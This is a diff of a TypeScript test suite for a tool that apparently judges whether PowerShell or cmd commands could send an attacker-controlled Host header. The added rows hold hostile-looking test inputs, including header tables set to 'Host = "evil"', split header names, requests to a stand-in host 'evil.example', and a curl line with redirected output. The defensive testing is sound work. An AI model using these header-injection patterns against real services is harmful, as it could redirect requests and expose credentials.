@@ -594,6 +594,19 @@ describe('who may get the header', () => {
         ].map(parameter => `$h = @{}\nirm https://evil.example ${parameter}`),
         ...['Set-Variable h $x', 'sv h $x', 'Set-Variable -Name "h" -Value $x', 'Set-Item variable:h $x'],
         ...['$x | Tee-Object -Variable h', '${h} = $x', '$h, $a = $x', 'foreach ($h in $x) { }'],
+        ...['$x = $h', '$x = $h = @{}', 'f -Headers $h', 'f irm -Headers $h', 'irm x -Body (f -Headers $h)'],
+        ...['$g = $h\n$g.Add($k, 1)', '$g = $h.PSBase\n$g.Add($k, 1)', '$g = $h.SyncRoot\n$g.Add($k, 1)'],
+        ...['irm x -ov h -Headers $h', 'irm x -Headers ($h | f)', '$x = "$($h.Add($k, 1))"'],
+        ...['$h = @{ A = 1 } + $x', '$h = @{} + @{ $k = 1 }', '$h = @{}.Clone() + $x', '$h = @{} `\n + $x'],
+        ...['$h = @{}\n| f', '$h += @{ $k = "evil" }', '$h += @{ "A" = 1 } + $x', '$h += @{ "A" = 1 } | f'],
+        ...['$h.Add("Ho" + "st", "evil")', '$h.Add("Host", 1)', '$h = @{ "Host " = "evil" }'],
+        ...[
+          '# $h = @{}',
+          '<#\n$h = @{}\n#>',
+          '@"\n$h = @{}\n"@',
+          'if ($x) {\n  $h = @{}\n}',
+          '$x = $h = @{}',
+        ].map(line => `$h = @{}\n$h = f\n${line}`),
         ...['$h += $x', '$h = $h + $x', 'f ([ref]$h)', '$h."$k" = 1', '$h["$k"] = 1', '$h.PSBase.Add($k, 1)'],
       ]
         .map(line => (line.startsWith('$h = @{') ? line : `$h = @{}\n${line}`))
@@ -618,15 +631,19 @@ describe('who may get the header', () => {
         /^(?!changed).*elsewhere/,
         /^(?!changed).*elsewhere/,
       ]),
-      ...['$h = @{ Host = "evil" }', '$h = Get-Headers', '$h = @{}\n$h[$k] = 1', '$h = @{}\nGet-X -ov h'].map(
-        (lines): Row => [
-          'a variable with the table added that may have a Host header',
-          powershellFormat,
-          `${lines}\nirm ${url} -Headers ($h + @{ A = 1 })\n`,
-          /^(?!changed).*unknown \d: only the shell knows the name of a header$/,
-          /^(?!changed).*unknown/,
-        ],
-      ),
+      ...[
+        '$h = @{} + $x',
+        '$h = @{ Host = "evil" }',
+        '$h = Get-Headers',
+        '$h = @{}\n$h[$k] = 1',
+        '$h = @{}\nGet-X -ov h',
+      ].map((lines): Row => [
+        'a variable with the table added that may have a Host header',
+        powershellFormat,
+        `${lines}\nirm ${url} -Headers ($h + @{ A = 1 })\n`,
+        /^(?!changed).*unknown \d: only the shell knows the name of a header$/,
+        /^(?!changed).*unknown/,
+      ]),
       [
         'a variable with the table added whose names are known',
         powershellFormat,
@@ -639,13 +656,16 @@ describe('who may get the header', () => {
         '$h = @{\n  "X-A" = "$a"\n}\n$h["X-B"] = $b',
         '$h = @{}\n$h.Accept = $a\n$h.Add("X", $x)',
         '# h has all headers\n$h = @{}\n# set h\n$h.set_Item("X-A", $x)\n$h += @{ "X-B" = $b }',
-        '$h = @{}\nf -Headers $h -Method Post\n$h.Remove("A")\n$x = $h',
+        `$h = @{}\nirm ${url} -Headers $h -Method Post\n$h.Remove("A")`,
+        `$h = @{ "A" = "b" } # c\n$r = irm "${url}?a=1&b=2" -Body ($b | f) \`\n  -Headers ($h + @{ Authorization = $t })`,
+        '$b = @"\n{}\n"@\nif ($x) { $h = f }\n$h = @{}\nif ($x) { $h += @{ "A" = 1 } }',
+        `$h = @{}\n$b = @"\n{}\n"@\ncurl ${url} -Headers:$h`,
       ].map((lines): Row => [
         'a table whose names are known',
         powershellFormat,
         `${lines}\nirm ${url} -Headers $h\n`,
-        /^changed 1$/,
-        /^changed 1$/,
+        /^changed [12]$/,
+        /^changed [12]$/,
       ]),
       ...[
         [cmdFormat, `curl ${url} 2>&1 ${evil}`],
